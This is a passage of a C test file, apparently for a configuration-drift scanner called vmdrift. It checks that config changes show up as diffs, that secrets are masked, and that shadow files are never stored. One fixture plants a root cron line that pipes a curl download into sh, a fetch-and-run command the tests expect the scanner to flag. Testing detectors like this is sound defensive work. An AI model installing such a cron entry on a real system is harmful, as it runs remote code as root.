                  "%s", r.out);
        cr_assert_null(strstr(r.out, "hunter2"), "%s", r.out);
        cr_assert_null(strstr(r.out, "saltsalt"), "shadow is never stored: %s", r.out);
        th_run_free(&r);

        th_write(t, "etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\nUsePAM yes\n");
        th_write(t, "etc/nginx/site.conf", "server {\n  listen 8080;\n  root /srv/www;\n}\n");
        th_write(t, "etc/app.env", "DB_PASSWORD=correcthorse\nHOST=db1\n");
        th_write(t, "etc/shadow", "root:$6$saltsalt$OTHERSECRETHASHabcdef:19001::\n");
        th_write(t, "var/spool/cron/crontabs/root", "0 3 * * * /usr/local/bin/backup\n* * * * * curl -s x | sh\n");
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/txt.vdb" A "--policy" A "%s/content.yaml" A
                       "--ignore" A "mtime,ctime" A "--report" A "text" A "--report" A "json:%s/txt.json",
                       t, work, work, work);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert(strstr(r.out, "                | --- a/etc/ssh/sshd_config\n                | +++ b/etc/ssh/sshd_config\n"
                                "                | @@ -1,3 +1,3 @@\n                | -PermitRootLogin no\n"
                                "                | +PermitRootLogin yes\n"),
                  "%s", r.out);
        cr_assert(strstr(r.out, "                | -  listen 80;\n                | +  listen 8080;\n"), "%s", r.out);
        cr_assert(strstr(r.out, "                |  0 3 * * * /usr/local/bin/backup\n                | +* * * * * curl -s x | sh\n"),
                  "%s", r.out);
        /* a changed secret is a changed line, never its value */
        cr_assert(strstr(r.out, "                | -DB_PASSWORD=[masked:") && strstr(r.out, "                | +DB_PASSWORD=[masked:"),
                  "%s", r.out);
        cr_assert_null(strstr(r.out, "hunter2"));
        cr_assert_null(strstr(r.out, "correcthorse"));
        cr_assert_null(strstr(r.out, "a/etc/shadow"), "no diff of shadow: %s", r.out);
        cr_assert_null(strstr(r.out, "SECRETHASH"), "%s", r.out);
        th_run_free(&r);
        r = th_exec((const char *const[]){"cat", th_path(work, "txt.json"), NULL});
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/ssh/sshd_config\"",
                                   "\"diff\":\"--- a/etc/ssh/sshd_config\\n+++ b/etc/ssh/sshd_config\\n@@ -1,3 +1,3 @@\\n"
                                   "-PermitRootLogin no\\n+PermitRootLogin yes\\n PasswordAuthentication no\\n UsePAM yes\\n\"",
                                   NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/etc/shadow\"", "\"diff\"", NULL), 0, "%s", r.out);
        cr_assert_null(strstr(r.out, "correcthorse"));
        th_run_free(&r);

        /* accepted: the next diff is against the accepted text */
        r = th_vmdrift("baseline" A "accept" A "--baseline" A "%s/txt.vdb" A "--dir" A "%s" A "-o" A "%s/txt2.vdb" A
                       "--reason" A "port 8080" A "--path" A "/etc/nginx/site.conf" A "--policy" A "%s/content.yaml",
                       work, t, work, work);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        th_write(t, "etc/nginx/site.conf", "server {\n  listen 8443;\n  root /srv/www;\n}\n");
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/txt2.vdb" A "--policy" A "%s/content.yaml" A
                       "--ignore" A "mtime,ctime",
                       t, work, work);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert(strstr(r.out, "                | -  listen 8080;\n                | +  listen 8443;\n"), "%s", r.out);
        cr_assert(strstr(r.out, "                | -PermitRootLogin no\n"), "not accepted: against the first text: %s",
                  r.out);
        th_run_free(&r);
        free(t);
}

/* Patterns that overlap name a file once: read and kept once, and a file
 * over max_file counted once in the capture's warning. */
Test(cli, overlapping_content_patterns_keep_each_file_once) {
        char *t = th_join(work, "ovl");
        mkdir(t, 0755);
        th_write(t, "etc/hostname", "web\n");
        th_write(t, "etc/ssh/sshd_config", "PermitRootLogin no\n");
        char big[3000];
        memset(big, 'x', sizeof big - 1);
        big[sizeof big - 1] = '\0';
        th_write(t, "etc/ssh/banner", big);
        th_write(work, "ovl.yaml", "version: 1\ncontent:\n  paths: [/etc/**, /etc/ssh/**, /etc/ssh/sshd_config]\n"
                                   "  max_file: 1K\n");
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "--policy" A "%s/ovl.yaml" A "-o" A "%s/ovl.vdb",
                              t, work, work);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "vmdrift: warning: content: 1 file over max_file (1024 bytes) keeps no text for diffs\n"),
                  "%s%s", r.out, r.err);
        th_run_free(&r);
        r = th_exec((const char *const[]){"sqlite3", th_path(work, "ovl.vdb"), "select count(*), sum(size) from content",
                                          NULL});
        cr_assert_str_eq(r.out, "2|23\n", "hostname and sshd_config, once each");
        th_run_free(&r);
        free(t);
}
